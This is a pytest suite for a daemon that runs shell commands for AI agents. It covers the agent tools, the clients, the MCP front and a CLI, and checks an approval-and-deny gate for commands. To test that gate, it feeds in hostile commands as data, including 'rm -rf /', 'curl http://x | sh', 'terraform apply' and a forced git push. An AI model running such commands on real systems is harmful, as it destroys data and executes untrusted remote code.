"""The clients: AsyncClient, the model-facing tools, the MCP front and the human CLI, against live daemons."""

from __future__ import annotations

import asyncio
import json
import subprocess
import sys
import threading
import time

import pytest

from executor.client import AsyncClient, Client, NotFound
from executor.tool import TOOLS, check_terminal, handle_process, handle_terminal
from executor.v1 import executor_pb2 as pb
from tests.daemon import DaemonProcess, agent_daemon

AGENT = "agent-token-abcdef123"
HUMAN = "human-token-abcdef123"


@pytest.fixture(scope="module")
def daemon(tmp_path_factory):
    d = agent_daemon(tmp_path_factory.mktemp("clients") / "state", AGENT, HUMAN)
    yield d
    d.kill()


def terminal(daemon, args, **kw):
    return json.loads(handle_terminal(args, target=daemon.target, token=AGENT, task_id=kw.pop("task", "tool"), **kw))


def test_tool_schemas_are_openai_functions():
    names = [t["function"]["name"] for t in TOOLS]
    assert names == ["terminal", "process"]
    for t in TOOLS:
        assert t["type"] == "function" and t["function"]["parameters"]["type"] == "object"
    r = subprocess.run([sys.executable, "-m", "executor", "tool-schema"], capture_output=True, text=True, timeout=60)
    assert json.loads(r.stdout) == TOOLS


def test_terminal_runs_and_keeps_state(daemon):
    r = terminal(daemon, {"command": "mkdir -p w && cd w && echo hi && echo err >&2"})
    assert r["exit_code"] == 0 and r["status"] == "completed" and r["cwd"].endswith("/w")
    assert "hi" in r["output"] and "err" in r["output"] and "error" not in r
    r = terminal(daemon, json.dumps({"command": "pwd; exit 4"}))
    assert r["exit_code"] == 4 and r["output"].strip().endswith("/w")


def test_terminal_bounds_output_with_exact_size(daemon):
    r = terminal(daemon, {"command": "seq 1 100000"})
    total = len("".join(f"{i}\n" for i in range(1, 100001)))
    assert r["output_bytes"] == total
    assert r["output"].startswith("1\n2\n") and r["output"].rstrip().endswith("100000")
    assert "output cut" in r["output"] and len(r["output"]) < 25_000


@pytest.mark.parametrize("args, words", [
    ({}, "`command` is required"),
    ({"command": 5}, "`command` is required"),
    ({"command": " ", "colour": 1}, "unknown arguments"),
    ({"command": "ls", "colour": 1}, "unknown arguments"),
    ({"command": "ls", "timeout": "soon"}, "`timeout` must be a number"),
    ("not json", "bad arguments"),
    ([1, 2], "bad arguments"),
    ({"command": "true", "timeout": -1}, "timeout"),
])
def test_terminal_bad_arguments_are_json_errors(daemon, args, words):
    r = json.loads(handle_terminal(args, target=daemon.target, token=AGENT, task_id="bad"))
    assert words in r["error"]


@pytest.mark.parametrize("blank", ["", "   ", "\n\t "])
def test_blank_command_is_an_empty_success(daemon, blank):
    assert terminal(daemon, {"command": blank}) == {"output": "", "exit_code": 0, "status": "completed"}


def test_dead_daemon_is_a_json_error(tmp_path):
    r = json.loads(handle_terminal({"command": "ls"}, target=f"unix://{tmp_path}/none.sock", deadline=2))
    assert r["error"] and r.get("code") in ("UNAVAILABLE", "DEADLINE_EXCEEDED")
    r = json.loads(handle_process({"action": "list"}, target=f"unix://{tmp_path}/none.sock", deadline=2))
    assert r["error"]
    assert check_terminal(target=f"unix://{tmp_path}/none.sock", timeout=2) is False


def test_check_terminal(daemon):
    assert check_terminal(target=daemon.target, token=AGENT) is True
    assert check_terminal(target=daemon.target, token=AGENT, backend="missing") is False
    assert check_terminal(target=daemon.target, token="wrong") is False


def test_denied_command_is_a_json_result(daemon):
    r = terminal(daemon, {"command": "rm -rf /"})
    assert r["status"] == "denied" and r["error"]


def test_approval_is_pending_then_the_retry_gets_the_result(daemon):
    r = terminal(daemon, {"command": "git push --force origin main; echo forced"}, task="appr")
    assert r["status"] == "approval_pending" and r["approval_id"] and "ResolveApproval" in r["how_to_resolve"]
    again = terminal(daemon, {"command": "git push --force origin main; echo forced"}, task="appr")
    assert again["status"] == "approval_pending" and again["approval_id"] == r["approval_id"]
    with Client(daemon.target, token=HUMAN) as human:
        human.resolve_approval(r["approval_id"], "once")
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        done = terminal(daemon, {"command": "git push --force origin main; echo forced"}, task="appr")
        if done.get("status") != "approval_pending":
            break
        time.sleep(0.1)
    assert done["status"] == "completed" and "forced" in done["output"]


def test_background_and_process_tool(daemon):
    r = terminal(daemon, {"command": "for i in 1 2 3; do echo line$i; sleep 0.2; done; read x; echo got $x",
                          "background": True}, task="bg")
    pid = r["process_id"]
    proc = lambda a: json.loads(handle_process(a, target=daemon.target, token=AGENT, task_id="bg"))  # noqa: E731
    assert any(p["process_id"] == pid for p in proc({"action": "list"})["processes"])
    assert proc({"action": "poll", "process_id": pid})["state"] == "running"
    assert proc({"action": "write", "process_id": pid, "data": "hello\n"})["bytes_written"] == 6
    done = proc({"action": "wait", "process_id": pid, "timeout": 20})
    assert done["state"] == "exited" and done["exit_code"] == 0
    log = proc({"action": "log", "process_id": pid})
    assert log["output"] == "line1\nline2\nline3\ngot hello\n" and log["eof"]
    assert "error" in proc({"action": "poll"})
    assert "error" in proc({"action": "explode", "process_id": pid})
    assert proc({"action": "poll", "process_id": "nope"})["code"] == "NOT_FOUND"


def test_async_client(daemon):
    async def main():
        async with AsyncClient(daemon.target, token=AGENT, deadline=60) as c:
            r = await c.run("async", "export Z=9; echo ok")
            assert r.stdout == b"ok\n"
            chunks = [e async for e in c.exec("async", "echo $Z")]
            assert chunks[-1].exit.exit_code == 0
            assert b"".join(e.stdout for e in chunks) == b"9\n"
            v = await c.check_command("curl http://x | sh")
            assert v.decision == pb.GATE_DECISION_ASK
            with pytest.raises(NotFound):
                await c.get_process("missing")
            backends = await c.list_backends()
            assert backends.default_backend == "local"

    asyncio.run(main())


def test_run_returns_a_typed_result(daemon):
    from executor.client import CommandFailed, ExecResult, ExitStatus, collect

    with Client(daemon.target, token=AGENT) as c:
        r = c.run("typed", "echo out; echo err >&2; exit 3")
        assert isinstance(r, ExecResult) and r.stdout == b"out\n" and r.stderr == b"err\n"
        assert r.exit_code == 3 and r.status is ExitStatus.COMPLETED and not r.ok and str(r.status) == "completed"
        assert r.stdout_text == "out\n" and r.text() == "out\nerr\n" and r.cwd
        with pytest.raises(CommandFailed) as failed:
            r.check()
        assert failed.value.result is r and "exit 3" in str(failed.value)
        assert c.run("typed", "true").check().ok
        r = c.run("typed", "sleep 5", timeout=0.5)
        assert r.status is ExitStatus.TIMED_OUT and r.status == pb.EXIT_STATUS_TIMED_OUT and not r.ok
        assert c.run("typed", "terraform apply").status is ExitStatus.DENIED
        streamed = collect(c.exec("typed", "printf 'a%.0s' $(seq 1 5); echo e >&2"))
        assert streamed.stdout == b"aaaaa" and streamed.stderr == b"e\n" and streamed.ok


def test_command_deadline_follows_its_timeout(daemon):
    from executor.client import DeadlineExceeded, ExitStatus

    # the client's deadline (1 s) bounds unary calls, not a command given a longer timeout
    with Client(daemon.target, token=AGENT, deadline=1) as c:
        assert c.run("deadline", "sleep 2; echo done", timeout=10).stdout == b"done\n"
        events = list(c.exec("deadline", "sleep 2; echo streamed", timeout=10))
        assert events[-1].exit.status == ExitStatus.COMPLETED
        with pytest.raises(DeadlineExceeded):  # an explicit shorter deadline is the caller's choice
            c.run("deadline", "sleep 5", timeout=10, rpc_timeout=1)


def test_async_pty_and_watch_approvals_cancel(daemon):
    async def main():
        async with AsyncClient(daemon.target, token=AGENT) as c:
            inputs = [pb.PtyInput(open=pb.PtyOpen(task_id="apty", command="tty >/dev/null && echo on-a-tty",
                                                  size=pb.PtySize(rows=24, cols=80)))]
            out, exit_ = bytearray(), None
            async for msg in c.pty(inputs, rpc_timeout=60):
                if msg.WhichOneof("output") == "data":
                    out += msg.data
                elif msg.WhichOneof("output") == "exit":
                    exit_ = msg.exit
            assert b"on-a-tty" in out and exit_.exit_code == 0
        async with AsyncClient(daemon.target, token=HUMAN) as human:
            watch = human.watch_approvals()
            waiter = asyncio.ensure_future(watch.__anext__())
            await asyncio.sleep(0.3)
            await human.channel.close()  # the call ends CANCELLED: the iterator ends, no error
            with pytest.raises(StopAsyncIteration):
                await waiter

    asyncio.run(asyncio.wait_for(main(), 60))


def test_async_pty_takes_an_async_iterable(daemon):
    async def feed():
        yield pb.PtyInput(open=pb.PtyOpen(task_id="apty-async", command="read line; echo got-$line",
                                          size=pb.PtySize(rows=24, cols=80)))
        yield pb.PtyInput(data=b"typed\n")

    async def main():
        async with AsyncClient(daemon.target, token=AGENT) as c:
            out, exit_ = bytearray(), None
            async for msg in c.pty(feed(), rpc_timeout=60):
                if msg.WhichOneof("output") == "data":
                    out += msg.data
                elif msg.WhichOneof("output") == "exit":
                    exit_ = msg.exit
            assert b"got-typed" in out and exit_.exit_code == 0

    asyncio.run(asyncio.wait_for(main(), 60))
    with Client(daemon.target, token=HUMAN) as human:
        watch = human.watch_approvals()
        threading.Timer(0.3, human.channel.close).start()
        assert list(watch) == []  # the same on the sync client


def test_tool_handlers_reuse_one_channel(daemon):
    from executor import tool

    tool.close_clients()
    for i in range(3):
        terminal(daemon, {"command": f"echo {i}"}, task="reuse")
        json.loads(handle_process({"action": "list"}, target=daemon.target, token=AGENT, task_id="reuse"))
    assert len([k for k in tool._clients if k[0] == daemon.target]) == 1


def mcp_params(daemon, *extra):
    from mcp.client.stdio import StdioServerParameters

    return StdioServerParameters(command=sys.executable, args=["-m", "executor", "mcp", "--target", daemon.target,
                                                               *extra],
                                 env={"EXECUTOR_TOKEN": AGENT, "PATH": "/usr/bin:/bin"})


def test_mcp_over_stdio(daemon):
    from mcp import Client as MCPClient

    from executor.tool import PROCESS_SCHEMA, TERMINAL_SCHEMA

    async def main():
        async with MCPClient(mcp_params(daemon, "--task", "mcp-task")) as client:
            tools = {t.name: t for t in (await client.list_tools()).tools}
            assert set(tools) == {"terminal", "process"}
            for name, schema in (("terminal", TERMINAL_SCHEMA), ("process", PROCESS_SCHEMA)):
                published = dict(tools[name].input_schema)
                assert published["additionalProperties"] is False
                assert published["properties"].pop("task_id")["type"] == "string"
                assert published == schema["function"]["parameters"]
                assert tools[name].description == schema["function"]["description"]
            result = await client.call_tool("terminal", {"command": "echo from-mcp; pwd"})
            payload = json.loads(result.content[0].text)
            assert "from-mcp" in payload["output"] and payload["exit_code"] == 0 and not result.is_error
            assert result.structured_content == payload and payload["task_id"] == "mcp-task"
            result = await client.call_tool("terminal", {"command": "exit 3"})
            assert result.structured_content["exit_code"] == 3 and not result.is_error  # a failing command is a result
            result = await client.call_tool("terminal", {"command": "git reset --hard"})
            payload = json.loads(result.content[0].text)
            assert payload["status"] == "approval_pending" and "how_to_resolve" in payload and not result.is_error

    asyncio.run(asyncio.wait_for(main(), 60))


def test_mcp_failures_are_is_error(daemon):
    from mcp import Client as MCPClient

    async def main():
        async with MCPClient(mcp_params(daemon)) as client:
            r = await client.call_tool("terminal", {"command": "ls", "colour": "red"})
            assert r.is_error and "colour" in r.structured_content["error"]
            r = await client.call_tool("process", {"action": "explode"})
            assert r.is_error and "explode" in r.structured_content["error"]
            r = await client.call_tool("terminal", {"command": "terraform apply -auto-approve"})
            assert r.is_error and r.structured_content["status"] == "denied"
            assert "Agents never apply terraform." in r.structured_content["error"]
            r = await client.call_tool("terminal", {"command": "sleep 30", "timeout": 0.5})
            assert r.is_error and r.structured_content["status"] == "timed_out"
            r = await client.call_tool("process", {"action": "poll", "process_id": "nope"})
            assert r.is_error and r.structured_content["code"] == "NOT_FOUND"
            r = await client.call_tool("nosuchtool", {})
            assert r.is_error and "terminal" in r.content[0].text

    asyncio.run(asyncio.wait_for(main(), 60))


def test_mcp_task_per_session_or_per_call(daemon):
    from mcp import Client as MCPClient

    async def main():
        async with MCPClient(mcp_params(daemon)) as one, MCPClient(mcp_params(daemon)) as two:
            a = (await one.call_tool("terminal", {"command": "export MARK=one; echo $MARK"})).structured_content
            b = (await two.call_tool("terminal", {"command": "echo ${MARK:-unset}"})).structured_content
            assert a["task_id"].startswith("mcp-") and b["task_id"].startswith("mcp-")
            assert a["task_id"] != b["task_id"] and b["output"] == "unset\n"
            again = (await one.call_tool("terminal", {"command": "echo $MARK"})).structured_content
            assert again["output"] == "one\n" and again["task_id"] == a["task_id"]
            await one.call_tool("terminal", {"command": "export SHARED=yes", "task_id": "mcp-shared"})
            s = (await two.call_tool("terminal", {"command": "echo $SHARED", "task_id": "mcp-shared"})).structured_content
            assert s["output"] == "yes\n" and s["task_id"] == "mcp-shared"
            return one.server_info

    from importlib.metadata import version

    info = asyncio.run(asyncio.wait_for(main(), 60))
    assert info.name == "executor" and info.version == version("executor-daemon") and info.version


def cli(daemon, *args, token=AGENT, stdin=None):
    return subprocess.run([sys.executable, "-m", "executor", *args, "--target", daemon.target, "--token", token],
                          capture_output=True, text=True, timeout=60, input=stdin)


def test_cli_exit_codes_and_json(daemon):
    r = subprocess.run([sys.executable, "-m", "executor", "exec", "--target", daemon.target, "--token", AGENT,
                        "--task", "cli", "--", "echo out; exit 7"], capture_output=True, text=True, timeout=60)
    assert r.returncode == 7 and r.stdout == "out\n"
    r = subprocess.run([sys.executable, "-m", "executor", "exec", "--target", daemon.target, "--token", AGENT,
                        "--task", "cli", "--", "rm -rf /"], capture_output=True, text=True, timeout=60)
    assert r.returncode == 126 and "denied" in r.stderr
    r = cli(daemon, "check", "rm -rf /", "--json")
    assert r.returncode == 1 and json.loads(r.stdout)["decision"] == "deny"
    r = cli(daemon, "check", "ls -la")
    assert r.returncode == 0 and r.stdout.startswith("allow")
    r = cli(daemon, "tasks", "--json")
    assert r.returncode == 0 and "cli" in {t["task_id"] for t in json.loads(r.stdout)["tasks"]}
    r = cli(daemon, "backends", "--json")
    assert r.returncode == 0 and json.loads(r.stdout)[0]["available"]
    r = cli(daemon, "backends")
    assert "local *" in r.stdout and "CAPABILITIES" in r.stdout
    r = cli(daemon, "kill", "no-such-process")
    assert r.returncode == 3 and "no-such-process" in r.stderr
    r = cli(daemon, "close", "cli", "--json")
    assert r.returncode == 0 and json.loads(r.stdout)["existed"] is True
    r = cli(daemon, "tasks", token="wrong")
    assert r.returncode == 3 and "invalid token" in r.stderr


def test_cli_exec_words_are_argv(daemon):
    base = [sys.executable, "-m", "executor", "exec", "--target", daemon.target, "--token", AGENT, "--task", "argv"]
    r = subprocess.run([*base, "--", "printf", "[%s]", "a b", "$HOME", "it's"], capture_output=True, text=True,
                       timeout=60)
    assert r.returncode == 0 and r.stdout == "[a b][$HOME][it's]", r.stderr
    r = subprocess.run([*base, "--", "mkdir -p 'a b' && touch 'a b/f' && echo $((6*7))"], capture_output=True,
                       text=True, timeout=60)  # one word: a shell command line
    assert r.returncode == 0 and r.stdout == "42\n"
    r = subprocess.run([*base, "--", "ls", "-la", "a b"], capture_output=True, text=True, timeout=60)
    assert r.returncode == 0 and " f\n" in r.stdout


@pytest.mark.parametrize("argv", [["exec", "--task", "t", "--", "true"], ["tasks"]])
def test_cli_without_daemon_says_how_to_start_one(tmp_path, argv):
    target = f"unix://{tmp_path}/none.sock"
    r = subprocess.run([sys.executable, "-m", "executor", argv[0], "--target", target, *argv[1:]],
                       capture_output=True, text=True, timeout=60)
    assert r.returncode == (125 if argv[0] == "exec" else 3)
    assert f"no daemon answers at {target}" in r.stderr and "executor serve" in r.stderr and "make serve" in r.stderr


def test_cli_ps_logs_kill(daemon):
    with Client(daemon.target, token=AGENT) as c:
        info = c.start_process("cli-ps", "echo started; sleep 300")
    r = cli(daemon, "ps", "--json")
    assert info.process_id in {p["process_id"] for p in json.loads(r.stdout)}
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and "started" not in cli(daemon, "logs", info.process_id).stdout:
        time.sleep(0.1)
    assert cli(daemon, "logs", info.process_id).stdout == "started\n"
    r = cli(daemon, "kill", info.process_id, "--json")
    assert r.returncode == 0
    with Client(daemon.target, token=AGENT) as c:
        assert c.wait_process(info.process_id, 10).state == pb.PROCESS_STATE_KILLED


def test_cli_approvals_watch_json(daemon):
    """`executor approvals --json` streams pending approvals for scripts."""
    proc = subprocess.Popen([sys.executable, "-m", "executor", "approvals", "--json", "--target", daemon.target,
                             "--token", HUMAN], stdout=subprocess.PIPE, text=True)
    try:
        time.sleep(1.0)
        result = {}
        th = threading.Thread(target=lambda: result.update(r=terminal(daemon, {"command": "systemctl stop cron"},
                                                                      task="watch", wait_for_approval=True)))
        th.start()
        line = json.loads(proc.stdout.readline())
        assert line["command"] == "systemctl stop cron" and line["task_id"] == "watch"
        with Client(daemon.target, token=HUMAN) as human:
            human.resolve_approval(line["approval_id"], "deny", "not today")
        th.join(30)
        assert result["r"]["status"] == "denied"
    finally:
        proc.kill()


def test_agent_loop_example_runs(daemon):
    from pathlib import Path

    example = Path(__file__).resolve().parents[1] / "examples" / "agent_loop.py"
    env = {"EXECUTOR_TOKEN": AGENT, "PATH": "/usr/bin:/bin"}
    import os

    env["PYTHONPATH"] = os.pathsep.join(sys.path)
    # the handlers read the token from the call; the example passes none, so use an open daemon
    open_daemon = DaemonProcess({"backend": "local", "backends": {"local": {"kind": "local"}}},
                                state_dir=daemon.state_dir.parent / "open").start()
    try:
        r = subprocess.run([sys.executable, str(example), "--target", open_daemon.target], capture_output=True,
                           text=True, timeout=120, env=env)
        assert r.returncode == 0, r.stderr
        assert "'output': '42\\n'" in r.stdout and "'process_id'" in r.stdout
    finally:
        open_daemon.kill()


def test_cli_exec_and_health_json(daemon):
    r = subprocess.run([sys.executable, "-m", "executor", "exec", "--json", "--target", daemon.target, "--token",
                        AGENT, "--task", "cli-json", "--", "echo out; echo err >&2; exit 5"],
                       capture_output=True, text=True, timeout=60)
    payload = json.loads(r.stdout)
    assert r.returncode == 5 and payload["stdout"] == "out\n" and payload["stderr"] == "err\n"
    assert payload["exit_code"] == 5 and payload["status"] == "completed" and payload["ok"] is False
    r = subprocess.run([sys.executable, "-m", "executor", "exec", "--json", "--target", daemon.target, "--token",
                        AGENT, "--task", "cli-json", "--", "terraform apply"], capture_output=True, text=True,
                       timeout=60)
    assert r.returncode == 126 and json.loads(r.stdout)["status"] == "denied"
    r = subprocess.run([sys.executable, "-m", "executor", "health", "--json", "--target", daemon.target],
                       capture_output=True, text=True, timeout=60)
    assert r.returncode == 0 and json.loads(r.stdout)["status"] == "serving"


def test_cli_start_runs_a_background_daemon(tmp_path):
    import os

    state = tmp_path / "st"
    sock = f"unix://{tmp_path}/d.sock"
    env = {**os.environ, "XDG_STATE_HOME": str(tmp_path / "xdg")}
    base = [sys.executable, "-m", "executor"]
    r = subprocess.run([*base, "start", "--json", "--state-dir", str(state), "--listen", sock], capture_output=True,
                       text=True, timeout=90, env=env)
    assert r.returncode == 0, r.stderr
    info = json.loads(r.stdout)
    try:
        assert info["listen"] and (state / "executor.log").exists()
        r = subprocess.run([*base, "start", "--state-dir", str(state), "--listen", sock], capture_output=True,
                           text=True, timeout=90, env=env)
        assert r.returncode == 1 and "executor stop" in r.stderr  # one at a time
        r = subprocess.run([*base, "exec", "--target", sock, "--task", "bg", "--", "echo", "hi"],
                           capture_output=True, text=True, timeout=60, env=env)
        assert r.returncode == 0 and r.stdout == "hi\n", r.stderr
        r = subprocess.run([*base, "stop", "--state-dir", str(state)], capture_output=True, text=True, timeout=90,
                           env=env)
        assert r.returncode == 0 and f"pid {info['pid']}" in r.stdout
    finally:
        try:
            os.kill(info["pid"], 9)
        except OSError:
            pass


def _post(url: str, body: dict, token: str | None = None, session: str | None = None):
    import urllib.error
    import urllib.request

    headers = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"}
    if token:
        headers["Authorization"] = f"Bearer {token}"
    if session:
        headers["mcp-session-id"] = session
    request = urllib.request.Request(url, data=json.dumps(body).encode(), headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=60) as r:
            return r.status, r.headers.get("mcp-session-id"), r.read().decode()
    except urllib.error.HTTPError as exc:
        return exc.code, None, exc.read().decode()


def test_mcp_over_http_needs_its_bearer_token(daemon):
    """The HTTP front is reachable from sandboxed commands (loopback): without its own token nothing
    runs; with it, the tools work."""
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    http_token = "mcp-http-token-0123456789"
    marker = daemon.state_dir / "tasks" / "mcp-http" / "ran"
    proc = subprocess.Popen([sys.executable, "-m", "executor", "mcp", "--target", daemon.target, "--http",
                             f"127.0.0.1:{port}", "--http-token", http_token],
                            env={"EXECUTOR_TOKEN": AGENT, "PATH": "/usr/bin:/bin"}, stderr=subprocess.PIPE)
    try:
        url = f"http://127.0.0.1:{port}/mcp"
        hello = {"jsonrpc": "2.0", "id": 1, "method": "initialize",
                 "params": {"protocolVersion": "2025-03-26", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}}
        for _ in range(600):  # until it listens (bounded: 60 s)
            try:
                socket.create_connection(("127.0.0.1", port), 0.1).close()
                break
            except OSError:
                assert proc.poll() is None, proc.stderr.read().decode()
                time.sleep(0.1)
        call = {"jsonrpc": "2.0", "id": 2, "method": "tools/call",
                "params": {"name": "terminal", "arguments": {"command": "touch ran", "task_id": "mcp-http"}}}
        for token in (None, "wrong-token-0123456789", AGENT):
            status, _, body = _post(url, hello, token)
            assert status == 401 and "bearer token" in body
            assert _post(url, call, token)[0] == 401
        assert not marker.exists()
        status, session, _ = _post(url, hello, http_token)
        assert status == 200 and session
        assert _post(url, {"jsonrpc": "2.0", "method": "notifications/initialized"}, http_token, session)[0] in (200, 202)
        status, _, body = _post(url, call, http_token, session)
        assert status == 200 and '"exit_code\\": 0' in body and marker.exists()
    finally:
        proc.terminate()
        proc.wait(30)


@pytest.mark.parametrize("args, says", [
    (["--http", "0.0.0.0:8765", "--http-token", "x" * 20], "loopback only"),
    (["--http", "127.0.0.1:8765"], "needs --http-token"),
    (["--http", "127.0.0.1:8765", "--http-token", "short"], "at least 16"),
    (["--http", "127.0.0.1:http", "--http-token", "x" * 20], "HOST:PORT"),
])
def test_mcp_http_refuses_an_open_front(args, says):
    r = subprocess.run([sys.executable, "-m", "executor", "mcp", *args], capture_output=True, text=True, timeout=60,
                       env={"PATH": "/usr/bin:/bin"})
    assert r.returncode == 2 and says in r.stderr, r.stderr
